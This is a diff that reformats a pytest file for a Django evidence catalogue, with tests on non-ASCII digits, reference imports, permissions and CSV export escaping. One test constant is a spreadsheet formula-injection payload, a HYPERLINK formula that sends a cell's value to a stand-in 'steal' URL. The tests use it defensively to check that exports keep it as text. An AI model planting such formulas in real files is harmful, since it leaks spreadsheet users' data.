@@ -27,13 +27,16 @@ SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes, int() says no
 FORMULA_TITLE = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'
 
 
-@pytest.mark.parametrize("url", [
-    f"/evidence-map/references/?intervention={SUPERSCRIPT_TWO}",
-    f"/compare/?entry={SUPERSCRIPT_TWO}&entry=1",
-    f"/catalogue/?page={SUPERSCRIPT_TWO}",
-    f"/api/v1/entries/?page={SUPERSCRIPT_TWO}",
-    f"/api/v1/entries/?page_size={SUPERSCRIPT_TWO}",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"/evidence-map/references/?intervention={SUPERSCRIPT_TWO}",
+        f"/compare/?entry={SUPERSCRIPT_TWO}&entry=1",
+        f"/catalogue/?page={SUPERSCRIPT_TWO}",
+        f"/api/v1/entries/?page={SUPERSCRIPT_TWO}",
+        f"/api/v1/entries/?page_size={SUPERSCRIPT_TWO}",
+    ],
+)
 def test_non_ascii_digits_in_urls_are_a_clear_answer_not_a_500(client, catalogue, url):
     response = client.get(url)
     assert response.status_code in (200, 400, 422), url
@@ -41,8 +44,9 @@ def test_non_ascii_digits_in_urls_are_a_clear_answer_not_a_500(client, catalogue
         assert "is not a page number" in response.content.decode()
 
 
-@pytest.mark.parametrize("column, value", [("year", SUPERSCRIPT_TWO), ("sample_size", SUPERSCRIPT_TWO),
-                                           ("year", "٢٠١٩")])
+@pytest.mark.parametrize(
+    "column, value", [("year", SUPERSCRIPT_TWO), ("sample_size", SUPERSCRIPT_TWO), ("year", "٢٠١٩")]
+)
 def test_non_ascii_digits_in_a_reference_file_are_a_row_error(column, value):
     row = {"authors": "Author A", "title": "A study", "year": "2019", "sample_size": "10"}
     row[column] = value
@@ -92,8 +96,9 @@ def test_the_reference_error_page_lists_the_first_hundred_problems_and_counts_th
     data = "authors,title,year\n" + "".join(f"Author {n},Study {n},twenty\n" for n in range(bad_rows))
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    response = admin_client.post("/admin/evidence-map/import-references/",
-                                 {"file": SimpleUploadedFile("refs.csv", data.encode())})
+    response = admin_client.post(
+        "/admin/evidence-map/import-references/", {"file": SimpleUploadedFile("refs.csv", data.encode())}
+    )
     html = response.content.decode()
     assert response.status_code == 200
     assert f"{bad_rows} problem(s) found" in html
@@ -110,8 +115,9 @@ def test_the_review_dates_export_keeps_formula_titles_as_text(admin_client, cata
 
     from django.utils import timezone
 
-    InterventionPageFactory(parent=catalogue, title=FORMULA_TITLE,
-                            next_review_due=timezone.localdate() - datetime.timedelta(days=3))
+    InterventionPageFactory(
+        parent=catalogue, title=FORMULA_TITLE, next_review_due=timezone.localdate() - datetime.timedelta(days=3)
+    )
     response = admin_client.get(reverse("editorial:review_dates"), {"export": "csv"})
     body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
     titles = [row[0] for row in _csv_cells(body)[1:]]
@@ -135,8 +141,7 @@ def test_the_open_data_export_keeps_formula_titles_as_text(client, catalogue, ti
     assert [row["title"] for row in rows] == [safe_cell(title)]
 
 
-REFERENCE_LINKING = ("authors,title,year,design,entries\n"
-                     "Author A,A new study of parents,2020,qualitative,{slug}\n")
+REFERENCE_LINKING = "authors,title,year,design,entries\nAuthor A,A new study of parents,2020,qualitative,{slug}\n"
 
 
 @pytest.fixture
@@ -153,13 +158,17 @@ def test_the_reference_importer_needs_permission_to_edit_the_entries_it_links(dj
     before = _revisions(linked_entry)
     report = import_references(REFERENCE_LINKING.format(slug=linked_entry.slug).encode(), "csv", user=outsider)
     assert not report.ok and not report.written
-    assert report.errors == [("Row 2", "Entry 'parents-together': you do not have permission to edit it, so "
-                                       "this reference cannot be linked to it.")]
+    assert report.errors == [
+        (
+            "Row 2",
+            "Entry 'parents-together': you do not have permission to edit it, so "
+            "this reference cannot be linked to it.",
+        )
+    ]
     assert _revisions(linked_entry) == before
 
 
-def test_the_reference_importer_does_not_change_an_entry_someone_else_has_locked(
-        django_user_model, linked_entry):
+def test_the_reference_importer_does_not_change_an_entry_someone_else_has_locked(django_user_model, linked_entry):
     contributor = django_user_model.objects.create_user("contributor", password="pw")
     contributor.groups.add(Group.objects.get(name=roles.CONTRIBUTORS))
     other = django_user_model.objects.create_user("other", password="pw")
